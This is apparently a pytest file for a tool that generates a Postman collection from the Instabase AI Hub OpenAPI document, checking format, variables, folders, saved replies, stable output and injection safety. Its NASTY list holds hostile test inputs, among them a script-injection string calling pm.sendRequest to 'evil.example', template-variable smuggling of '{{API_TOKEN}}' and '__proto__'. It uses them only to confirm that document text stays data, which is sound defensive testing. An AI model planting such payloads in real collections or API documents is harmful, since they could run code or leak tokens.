"""The collection of AI Hub as a file, and collections of documents that mean no good."""

from __future__ import annotations

import copy
import hashlib
import json
import os
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from tests.postman.format import faults
from tests.postman.made import ROOT, Made, aihub, collection, document, reply, requests, script

NASTY = (
    'a "quote" \'s `tick` ${1+1} \\ end', "{{API_TOKEN}}", "{{{API_TOKEN}}}", "{{$guid}}",
    "*/ // <!-- </script>", "line\nbreak\r\nand\u2028more", "\0\x1b[31m\u202e", "é日本🎉", "\ud800",
    'x"); pm.sendRequest("http://evil.example/' , "__proto__", "%7B%7BAPI_TOKEN%7D%7D", ":colon", "..",
    "x" * 5000,
)  # fmt: skip


@pytest.fixture(scope="module")
def made() -> Made:
    return aihub()


def texts(value: Any) -> Iterator[str]:
    """Every text of some data, keys included."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from texts(item)
    elif isinstance(value, list):
        for item in value:
            yield from texts(item)


def test_the_collection_has_the_format(made: Made) -> None:
    assert faults(made.data) == []


@pytest.mark.parametrize(
    "harm",
    [
        lambda d: d["info"].pop("schema"),
        lambda d: d["item"][0]["item"][0].pop("request"),
        lambda d: d["item"][0]["item"][0]["request"]["header"][0].pop("value"),
        lambda d: d["item"][0]["item"][0]["request"]["body"].update(mode="data"),
        lambda d: d["item"][0]["item"][0]["response"][0].update(code="200"),
        lambda d: d["variable"][0].update(type="secret"),
        lambda d: d["auth"].update(type="token"),
        lambda d: d["item"][0]["item"][0].update(item=[]),
    ],
)
def test_a_broken_collection_has_not(made: Made, harm: Callable[[dict[str, Any]], object]) -> None:
    broken = copy.deepcopy(made.data)
    harm(broken)
    assert faults(broken)


def test_the_variables_are_those_of_the_product_page(made: Made) -> None:
    values = {v["key"]: v["value"] for v in made.data["variable"]}
    assert list(values)[:5] == ["API_ROOT", "API_KEY", "CONTEXT", "USER_ID", "ORGANIZATION_ID"]
    assert values["API_ROOT"] == "https://aihub.instabase.com/api"
    assert values["CONTEXT"] == "{{USER_ID}}"
    assert values["API_KEY"] == values["USER_ID"] == values["ORGANIZATION_ID"] == ""
    assert made.data["auth"] == {
        "type": "bearer",
        "bearer": [{"key": "token", "value": "{{API_KEY}}", "type": "string"}],
    }
    for item in requests(made.data):
        headers = {row["key"]: row["value"] for row in item["request"]["header"]}
        assert headers["IB-Context"] == "{{CONTEXT}}"
        assert "auth" not in item["request"]


def test_ids_that_replies_fill_are_empty_until_then(made: Made) -> None:
    filled = {v["key"] for v in made.data["variable"] if "Set by the response" in v["description"]}
    assert filled == {"batch_id", "session_id", "part_id", "job_id", "run_id"}
    assert all(made.value(name) == "" for name in filled)
    assert made.value("deployment_id")  # nothing gives it; the document's default is no text
    assert "false" not in made.request("Run a deployment")["request"]["url"]["raw"]


def test_folders_are_the_tags_and_hold_every_operation(made: Made) -> None:
    names = [item["name"] for item in made.data["item"]]
    assert names == [
        "Batches",
        "Runs",
        "Jobs",
        "Files",
        "Secrets",
        "Audit",
        "Clean up",
        "Workflows",
    ]
    count = sum(len(list(requests(item))) for item in made.data["item"][:-1])
    assert count == len(made.api.operations) == 27
    late = [item["name"] for item in made.data["item"][-2]["item"]]
    # runs need the batch that the first folder makes
    assert late == ["Delete a batch", "Get the state of a batch deletion"]


def test_every_request_is_described_answered_and_tested(made: Made) -> None:
    for folder in made.data["item"][:-1]:
        assert folder["description"]
        for item in folder["item"]:
            assert len(item["request"]["description"]) > 40, item["name"]
            assert len(item["response"]) >= 1, item["name"]
            assert "pm.test(" in script(item), item["name"]
            url = item["request"]["url"]
            for row in [*url.get("variable", ()), *url.get("query", ())]:
                assert re.match(
                    r"\((integer|string|boolean|list|[A-Za-z_]+ or )", row["description"]
                )


def test_a_saved_reply_is_the_documents_example(made: Made) -> None:
    good, *_, bad = made.request("Create a batch")["response"]
    assert (good["code"], json.loads(good["body"])) == (200, {"id": 4821})
    assert (bad["code"], bad["status"], list(json.loads(bad["body"]))) == (
        400,
        "Bad Request",
        ["message"],
    )
    assert good["originalRequest"]["method"] == "POST"


def test_default_alone_is_the_good_reply() -> None:
    """Swagger documents often have no other: its status is good, and its body is tested."""
    pet = {"type": "object", "required": ["name"], "properties": {"name": {"type": "string"}}}
    made = collection(document({"/pet": {"get": {"responses": reply(pet, "default")}}}))
    (request,) = requests(made.data)
    assert [saved["code"] for saved in request["response"]] == [200]
    assert "const succeeded = pm.response.code < 400;" in script(request)
    assert "The response is JSON" in script(request)
    beside = {"204": {"description": "Gone."}, **reply(pet, "default")}
    made = collection(document({"/pet": {"get": {"responses": beside}}}))
    (request,) = requests(made.data)
    assert [saved["code"] for saved in request["response"]] == [204, 400]
    assert "The reply is JSON" not in script(request)


def test_a_query_of_the_path_is_a_query() -> None:
    query = {"name": "q", "in": "query", "required": True, "schema": {"type": "string"}}
    operation = {"parameters": [query], "responses": reply({})}
    made = collection(document({"/v1/pets?draft=true": {"get": operation}}))
    (request,) = requests(made.data)
    url = request["request"]["url"]
    assert url["path"] == ["v1", "pets"]
    assert [row["key"] for row in url["query"]] == ["draft", "q"]
    assert url["raw"].startswith("{{API_ROOT}}/v1/pets?draft=true&q=")
    # without a tag, the first word of the path that says something names the folder
    assert made.data["item"][0]["name"] == "Pets"


def test_filters_are_off_and_what_is_needed_is_on(made: Made) -> None:
    query = made.request("List runs")["request"]["url"]["query"]
    assert {row["key"] for row in query if row.get("disabled")} == {row["key"] for row in query}
    query = made.request("Read a file")["request"]["url"]["query"]
    assert [(row["key"], row.get("disabled", False)) for row in query] == [
        ("expect-node-type", False)
    ]
    query = made.request("Delete a run")["request"]["url"]["query"]
    assert [(row["key"], row["value"], row["disabled"]) for row in query] == [
        ("delete_db_data", "true", True),
        ("delete_input", "false", True),
        ("delete_output", "true", True),
        ("delete_logs", "true", True),
    ]


def test_a_saved_reply_shows_all_that_may_be_asked(made: Made) -> None:
    replies = {
        one["code"]: one["originalRequest"] for one in made.request("Create a batch")["response"]
    }
    assert json.loads(replies[200]["body"]["raw"]).keys() == {"name", "workspace"}
    assert json.loads(replies[400]["body"]["raw"]).keys() == {"name"}
    query = made.request("List batches")["response"][0]["originalRequest"]["url"]["query"]
    assert query
    assert not any(row.get("disabled") for row in query)


def test_a_large_upload_sends_what_fits_together(made: Made) -> None:
    names = ["2. Start a multipart upload", "4. Commit or abort a multipart upload"]
    opened, commit = (made.request(name)["request"]["body"]["raw"] for name in names)
    assert json.loads(opened.replace("{{batch_id}}", "1"))["file_size"] == 1024
    commit = commit.replace("{{part_num}}", "1").replace("{{part_id}}", "p")
    assert json.loads(commit) == {"action": "commit", "parts": [{"part_num": 1, "part_id": "p"}]}


def test_same_input_same_bytes(made: Made) -> None:
    program = (
        "import hashlib; from tests.postman.made import aihub;"
        "print(hashlib.sha256(aihub().content).hexdigest())"
    )
    expected = hashlib.sha256(made.content).hexdigest()
    for seed in ("1", "2"):
        done = subprocess.run(
            [sys.executable, "-c", program],
            check=True, capture_output=True, text=True, cwd=ROOT,
            env={**os.environ, "PYTHONHASHSEED": seed},
        )  # fmt: skip
        assert done.stdout.strip() == expected


def test_ids_are_stable_and_each_given_once(made: Made) -> None:
    found: list[str] = re.findall(rb'"id": "([0-9a-f-]{36})"', made.content)  # type: ignore[assignment]
    assert len(found) == len(set(found)) > 27
    changed = collection(document({"/a": {"get": {"operationId": "a", "responses": reply({})}}}))
    again = collection(
        document({"/a": {"get": {"operationId": "a", "summary": "New", "responses": reply({})}}})
    )
    ids = [made.data["item"][0]["item"][0]["id"] for made in (changed, again)]
    assert ids[0] == ids[1]


def test_the_generated_file_is_this_one(made: Made) -> None:
    assert made.files == ("instabase-aihub.postman_collection.json", "sample.bin")
    file = ROOT / "generated" / "postman" / made.files[0]
    assert file.read_bytes() == made.content


def hostile(text: str) -> dict[str, Any]:
    """A document that says ``text`` wherever it can; names and paths stay what they must be."""
    name = text.encode("utf-8", "replace").decode()  # what no request can carry is no name
    schema = {
        "type": "object",
        "required": [name, "list"],
        "description": text,
        "properties": {
            name: {"type": "string", "description": text},
            "id": {"type": "string"},
            "list": {"type": "array", "items": {"type": "string"}},
        },
    }
    example = {text: text, "list": [text]}
    parameters = [
        {"name": name, "in": place, "schema": {"type": "string"}, "example": text, "required": True}
        for place in ("query", "header", "cookie")
    ]
    parameters.append(
        {
            "name": "id",
            "in": "path",
            "required": True,
            "schema": {"type": "string"},
            "example": text,
        }
    )
    get = {
        "operationId": "getThing", "summary": text, "description": text, "tags": [text],
        "parameters": parameters, "responses": reply(schema, example=example),
    }  # fmt: skip
    post = {
        "operationId": "makeThing", "tags": [text], "responses": reply(schema, example=example),
        "requestBody": {"content": {"application/json": {"schema": schema, "example": example}}},
    }  # fmt: skip
    form = {
        "operationId": "sendForm", "tags": [text], "responses": reply(schema),
        "requestBody": {"content": {"application/x-www-form-urlencoded": {"example": example}}},
    }  # fmt: skip
    return document(
        {"/things": {"post": post}, "/things/{id}": {"get": get}, "/forms": {"post": form}},
        info={"title": text, "description": text, "version": text},
        tags=[{"name": text, "description": text}],
        security=[{"key": []}],
        components={"securitySchemes": {"key": {"type": "http", "scheme": "bearer"}}},
    )


def shape(made: Made) -> list[str]:
    """The lines of all scripts, without what stands in their literals."""
    lines = [line for item in requests(made.data) for line in script(item).split("\n")]
    lines += made.data["event"][0]["script"]["exec"]
    quoted = re.compile(r'"(?:[^"\\]|\\.)*"|' + r"'(?:[^'\\]|\\.)*'")
    named = re.compile(r'reply\?\.(?:[A-Za-z_$][\w$]*|\[""\])')
    return [named.sub("reply?.x", quoted.sub('""', line)) for line in lines]


@pytest.fixture(scope="module")
def calm() -> list[str]:
    return shape(collection(hostile("words")))


@pytest.mark.parametrize("text", NASTY)
def test_text_of_a_document_stays_data(text: str, calm: list[str]) -> None:
    made = collection(json.dumps(hostile(text)).encode())
    assert faults(made.data) == []
    assert shape(made) == calm
    known = set(made.variables)
    for item in requests(made.data):
        for sent in texts({k: v for k, v in item["request"].items() if k != "description"}):
            used = set(re.findall(r"\{\{(.*?)\}\}", sent, re.DOTALL))
            assert used <= known - {"API_TOKEN"} or sent == "{{API_TOKEN}}"
    auth = made.data["auth"]["bearer"][0]
    assert auth["value"] == "{{API_TOKEN}}"
    values = {v["key"]: v["value"] for v in made.data["variable"]}
    assert all("{{" not in value for value in values.values())
